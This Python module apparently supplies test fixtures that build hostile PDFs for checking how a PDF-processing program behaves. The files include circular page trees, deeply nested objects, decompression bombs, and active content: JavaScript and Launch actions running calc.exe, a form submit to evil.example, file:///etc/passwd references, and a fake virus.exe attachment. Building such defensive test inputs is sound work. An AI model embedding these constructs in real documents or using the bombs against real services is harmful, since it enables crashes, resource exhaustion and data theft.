"""PDFs that break careless programs, made by hand: each function gives the bytes of one."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

MEBIBYTE = 1 << 20
FONT = Path(__file__).parents[2] / "templates" / "fonts" / "Carlito-Regular.ttf"


def plain(pages: int = 1, change: Callable[[Pdf], None] | None = None, **save: object) -> bytes:
    """A PDF of a few pages with a word each, in a font that it does not carry; `change` may do what it likes to it."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = Stream(pdf, f"BT /F1 12 Tf 72 700 Td (Sheet {number}) Tj ET".encode())
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def written(objects: Sequence[bytes], trailer: bytes = b"", last: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1, of which the first is the catalog; with a sound table of addresses."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(body) if last is None else last
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return body + head + table + end


CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
PAGES = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"
PAGE = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources <<>> %s>>"


def circular_pages() -> bytes:
    """A page tree of which a branch leads back to the root."""
    kids = b"<</Type /Pages /Kids [3 0 R 4 0 R] /Count 2>>"
    return written([CATALOG, kids, PAGE % b"", b"<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1>>"])


def circular_tables() -> bytes:
    """A table of addresses that names itself as the one before."""
    sound = written([CATALOG, PAGES, PAGE % b""])
    start = sound.rindex(b"xref\n0")
    return written([CATALOG, PAGES, PAGE % b""], b"/Prev %d" % start)


def deep_arrays(depth: int = 100_000) -> bytes:
    """Brackets in brackets."""
    return written([CATALOG, PAGES, PAGE % (b"/Annots " + b"[" * depth + b"]" * depth)])


def deep_chain(length: int = 200_000) -> bytes:
    """Objects that lead to each other, one behind the other, from the page's resources."""
    links = [b"<</N %d 0 R>>" % (number + 1) for number in range(4, length + 4)]
    page = PAGE.replace(b"<<>>", b"<</XObject 4 0 R>>") % b""
    return written([CATALOG, PAGES, page, *links, b"null"])


def lying_count(said: int = 50) -> bytes:
    """One page where the page tree says that there are many."""
    return written([CATALOG, PAGES.replace(b"/Count 1", b"/Count %d" % said), PAGE % b""])


def no_pages() -> bytes:
    """A page tree without leaves."""
    return written([CATALOG, b"<</Type /Pages /Kids [] /Count 0>>"])


def sheet(box: bytes) -> bytes:
    """A page with this box."""
    return written([CATALOG, PAGES, (PAGE % b"").replace(b"[0 0 612 792]", box)])


def packed_zeros(size: int, times: int = 1) -> bytes:
    """Zeros, packed, and the outcome packed again as often as said."""
    packing = zlib.compressobj(9)
    piece = bytes(MEBIBYTE)
    data = b"".join(packing.compress(piece) for _ in range(size // MEBIBYTE)) + packing.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def bomb(size: int = 350 * MEBIBYTE, times: int = 1) -> bytes:
    """A page whose drawing unpacks to 350 MB of nothing."""
    data = packed_zeros(size, times)
    filters = b"[" + b"/FlateDecode " * times + b"]"
    stream = b"<</Length %d /Filter %s>>\nstream\n%s\nendstream" % (len(data), filters, data)
    return written([CATALOG, PAGES, PAGE % b"/Contents 4 0 R", stream])


def object_bomb(size: int) -> bytes:
    """An object in a stream of objects that unpacks to far more than it needs."""
    data = packed_zeros(size)
    stream = b"<</Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode>>\nstream\n%s\nendstream"
    body = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate((CATALOG, PAGES, PAGE % b"/Contents 5 0 R", stream % (len(data), data)), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"\0" * 7 + b"".join(b"\1" + place.to_bytes(4, "big") + b"\0\0" for place in places)
    rows += b"\2" + (4).to_bytes(4, "big") + b"\0\0" + b"\1" + len(body).to_bytes(4, "big") + b"\0\0"
    table = b"<</Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d>>\nstream\n%s\nendstream" % (len(rows), rows)
    return body + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body))


def many_pictures(number: int, size: int) -> bytes:
    """Pictures that are all as large as is allowed and cost little to carry."""

    def change(pdf: Pdf) -> None:
        packed = packed_zeros(size)
        drawn = Dictionary()
        for index in range(number):
            picture = Stream(pdf, packed + bytes([index]))
            picture.stream_dict = Dictionary(
                Type=Name.XObject, Subtype=Name.Image, Width=size // 10_000, Height=10_000, BitsPerComponent=8,
                ColorSpace=Name.DeviceGray, Filter=Name.FlateDecode,
            )  # fmt: skip
            drawn[f"/I{index}"] = pdf.make_indirect(picture)
        pdf.pages[0].obj.Resources.XObject = drawn

    return plain(1, change)


def picture_of(width: int, height: int) -> bytes:
    """A picture that says that it is so large."""

    def change(pdf: Pdf) -> None:
        picture = Stream(pdf, b"\xff\xd8\xff")
        picture.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=8,
            ColorSpace=Name.DeviceRGB, Filter=Name.DCTDecode,
        )  # fmt: skip
        pdf.pages[0].obj.Resources.XObject = Dictionary(I0=pdf.make_indirect(picture))

    return plain(1, change)


def locked(user: str, owner: str) -> bytes:
    """A PDF under passwords."""
    return plain(2, None, encryption=pikepdf.Encryption(user=user, owner=owner))


def _action(kind: str, **more: object) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def acting() -> bytes:
    """Everything that acts, where a reader looks for it and where it doesn't."""
    return plain(2, _act)


def _act(pdf: Pdf) -> None:
    script = _action("JavaScript", JS=String("app.alert(1)"))
    launch = _action("Launch", F=String("calc.exe"))
    root = pdf.Root
    root.OpenAction = pdf.make_indirect(script)
    root.AA = Dictionary(WC=script)
    root.Collection = Dictionary(Type=Name.Collection)
    film = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("film.swf")))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])), Renditions=Dictionary(Names=Array())
    )
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90", filename="virus.exe")
    form = Stream(pdf, b"")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    elsewhere = Stream(pdf, b"")
    elsewhere.F = String("/etc/passwd")
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    program = Stream(pdf, b"(calc.exe) run")
    program.Type, program.Subtype = Name.XObject, Name.PS
    drawn = {f"/X{number}": pdf.make_indirect(each) for number, each in enumerate((form, elsewhere, program))}
    first.Resources.XObject = Dictionary(drawn)
    first.AA = Dictionary(O=launch)
    box = Array([10, 10, 50, 50])
    web = _action("URI", URI=String("https://example.org/"), Next=Array([script, launch]))
    away = {
        "submit": _action("SubmitForm", F=String("http://evil.example/")),
        "local": _action("URI", URI=String("file:///etc/passwd")),
        "script": _action("URI", URI=String("JavaScript:alert(1)")),
        "remote": _action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])),
        "inner": _action("GoToE", D=String("x")),
        "data": _action("ImportData", F=String("x.fdf")),
        "print": _action("Named", N=Name.Print),
        "layers": _action("SetOCGState", State=Array()),
    }
    links = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=action) for action in (web, launch, *away.values())
    ]
    links.append(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, Dest=Array([second, Name.Fit])))
    links.append(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=_action("GoTo", D=Array([second, Name.Fit])))
    )
    media = [
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box, RichMediaContent=Dictionary(Assets=film)),
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=box, A=_action("Rendition", JS=String("x"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=box, Movie=Dictionary(F=film)),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=pdf.Root.Names.EmbeddedFiles.Names[1]),
        Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=box),
    ]
    first.Annots = Array([pdf.make_indirect(each) for each in (*links, *media)])
    field = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=box, AA=Dictionary(K=script))
    )
    second.Annots = Array([field])
    root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=Stream(pdf, b"<xdp/>"), CO=Array([field]), NeedAppearances=True
    )
    item = pdf.make_indirect(Dictionary(Title=String("Click"), A=launch))
    root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = root.Outlines
    root.Hidden = pdf.make_indirect(Array([Dictionary(A=launch), Array([Dictionary(AA=Dictionary(O=script))])]))


def signed() -> bytes:
    """A PDF with a signature, which need not hold."""

    def change(pdf: Pdf) -> None:
        value = pdf.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("x")))
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("s"), V=value, Rect=Array([0, 0, 0, 0])
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
        pdf.Root.Perms = Dictionary(DocMDP=value)

    return plain(1, change)


def carelessly_merged(tagged: bytes) -> bytes:
    """A tagged PDF with its own pages once more behind it, as they are: each key of the tags stands twice."""
    with pikepdf.open(io.BytesIO(tagged)) as pdf, pikepdf.open(io.BytesIO(tagged)) as again:
        pdf.pages.extend(again.pages)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def linked_pages(pages: int) -> bytes:
    """Pages each of which has a link to the next one: a chain through the whole file."""

    def change(pdf: Pdf) -> None:
        sheets = [page.obj for page in pdf.pages]
        for here, there in zip(sheets, [*sheets[1:], sheets[0]], strict=True):
            target = Array([there, Name.Fit])
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), Dest=target)
            here.Annots = Array([pdf.make_indirect(link)])

    return plain(pages, change)
